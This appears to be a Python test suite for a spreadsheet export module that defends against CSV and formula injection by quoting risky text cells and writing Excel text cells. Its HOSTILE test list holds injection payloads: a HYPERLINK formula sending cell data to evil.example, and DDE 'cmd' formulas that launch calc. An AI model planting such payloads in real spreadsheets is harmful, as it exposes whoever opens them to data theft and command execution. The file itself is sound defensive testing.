"""Issue 19: every exported cell is data, never a formula (OWASP CSV injection). Text that a spreadsheet would run —
starting with = + - @, a tab or a carriage return — is written behind a single quote; a number our own code
produced (int, Decimal, float) stays a number, because all it can spell is a numeric literal."""

from __future__ import annotations

import csv
import io
import math
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.http.exports import FORMULA_STARTS, Sheet, csv_text, is_number, safe_cell, xlsx_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=",
    "-",
]
NUMBERS = st.one_of(
    st.integers(min_value=-(10**15), max_value=10**15),
    st.decimals(min_value=Decimal("-9999999999.99"), max_value=Decimal("9999999999.99"), places=2),
    st.decimals(allow_nan=False, allow_infinity=False),
    st.floats(allow_nan=False, allow_infinity=False),
)
ANYTHING = st.one_of(st.text(), st.none(), st.booleans(), NUMBERS, st.decimals(), st.floats())


def _read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_is_written_behind_a_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert _read_back(csv_text(["who"], [[text]]))[1] == ["'" + text]


@pytest.mark.parametrize("text", ["c-a", "Li Lei", "王伟", "'=already marked", "", " =1+1", "price=1;timing=2"])
def test_ordinary_text_is_written_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize("number", [-5, Decimal("-5.00"), -0.25, 0, Decimal("1E+3"), 12])
def test_a_number_our_code_produced_stays_a_number(number: int | Decimal | float) -> None:
    """A negative amount is minus five to a spreadsheet, not a formula: it is not quoted."""
    assert safe_cell(number) == number and is_number(number)
    assert Decimal(_read_back(csv_text(["n"], [[number]]))[1][0]) == Decimal(str(number))


@pytest.mark.parametrize("value", [True, False, "-5.00", Decimal("-Infinity"), Decimal("NaN"), -math.inf])
def test_what_is_not_a_finite_number_of_ours_is_text(value: object) -> None:
    """A string that looks like a number came from someone: text; so are bools and infinities."""
    assert not is_number(value) and isinstance(safe_cell(value), str)
    assert not str(safe_cell(value)).startswith(FORMULA_STARTS)


def test_nothing_is_an_empty_cell() -> None:
    assert safe_cell(None) == "" and _read_back(csv_text(["a", "b"], [[None, 1]]))[1] == ["", "1"]


@given(st.lists(st.lists(ANYTHING, min_size=1, max_size=4), max_size=4), st.lists(st.text(), min_size=1, max_size=4))
def test_no_written_cell_starts_a_formula_unless_it_is_our_number(rows: list[list[object]], header: list[str]) -> None:
    written = _read_back(csv_text(header, rows))
    assert [len(line) for line in written] == [len(header), *(len(row) for row in rows)]
    for values, line in zip([header, *rows], written, strict=True):
        for value, cell in zip(values, line, strict=True):
            if is_number(value):
                assert Decimal(cell) == Decimal(str(value))
            else:
                assert not cell.startswith(FORMULA_STARTS)


@given(st.text())
def test_the_text_after_the_quote_is_the_input(text: str) -> None:
    cell = safe_cell(text)
    assert isinstance(cell, str)
    assert cell == ("'" + text if text.startswith(FORMULA_STARTS) else text)
    assert _read_back(csv_text(["t"], [[text]]))[1] == [cell]


@given(NUMBERS)
def test_our_numbers_are_written_as_plain_numerals(number: int | Decimal | float) -> None:
    """Only a numeral's characters (a Decimal never in exponent form), and the value reads back exactly."""
    (cell,) = _read_back(csv_text(["n"], [[number]]))[1]
    assert Decimal(cell) == Decimal(str(number)) and set(cell) <= set("-0123456789.e+E")


def test_an_excel_workbook_keeps_hostile_text_as_text_cells_and_numbers_as_numbers() -> None:
    """Issues 22, 24: in Excel the cell's type does the quote's work: hostile text is a text cell holding the text
    itself, never a formula; our numbers are number cells, the columns asked for with two places."""
    import openpyxl

    from shared.http.exports import CSV, XLSX, export_type

    table = [[h, Decimal("1000000.50"), 7] for h in HOSTILE]
    book = xlsx_bytes([Sheet("价格表", ["text", "amount", "floor"], table, frozenset({1}))])
    sheet = openpyxl.load_workbook(io.BytesIO(book)).active
    rows = list(sheet.iter_rows(min_row=2))
    texts = [r[0].value.replace("_x000D_", "\r") for r in rows]  # the file's escape of a CR, which openpyxl keeps
    assert sheet.title == "价格表" and texts == HOSTILE
    assert {r[0].data_type for r in rows} == {"s"} and {(r[1].data_type, r[2].data_type) for r in rows} == {("n", "n")}
    assert rows[0][1].value == 1000000.5 and rows[0][1].number_format == "0.00" and rows[0][2].value == 7
    assert export_type("text/csv") == CSV and export_type(f"{XLSX}, */*") == XLSX
    assert export_type("application/json") is None and export_type(None) is None


def _workbook(header: list[object], rows: list[list[object]], two_places: frozenset[int] = frozenset()):
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([Sheet("t", header, rows, two_places)])))
    return list(book["t"].iter_rows())


@pytest.mark.parametrize("text", HOSTILE)
def test_in_a_workbook_text_a_spreadsheet_would_run_is_a_text_cell(text: str) -> None:
    """Issue 22: the Excel reports; the cell is a text cell holding the text itself, never a formula cell."""
    [_, [cell]] = _workbook(["who"], [[text]])
    assert cell.data_type == "s" and cell.value.replace("_x000D_", "\r") == text  # the file's escape of a CR


def test_in_a_workbook_our_numbers_are_number_cells_money_with_two_places() -> None:
    [header, row] = _workbook(["n", "amount", "name"], [[3, Decimal("-12.50"), "王伟"]], frozenset({1}))
    assert [c.value for c in header] == ["n", "amount", "name"]
    assert (row[0].data_type, row[0].value) == ("n", 3)
    assert (row[1].data_type, row[1].number_format, Decimal(str(row[1].value))) == ("n", "0.00", Decimal("-12.5"))
    assert (row[2].data_type, row[2].value) == ("s", "王伟")


@given(st.lists(st.lists(ANYTHING, min_size=1, max_size=3), max_size=3))
def test_no_workbook_cell_is_a_formula_whatever_it_is_given(rows: list[list[object]]) -> None:
    for line in _workbook(["a", "b", "c"], rows):
        for cell in line:
            assert cell.data_type != "f"
            assert cell.data_type == "n" or isinstance(cell.value, str) or cell.value is None
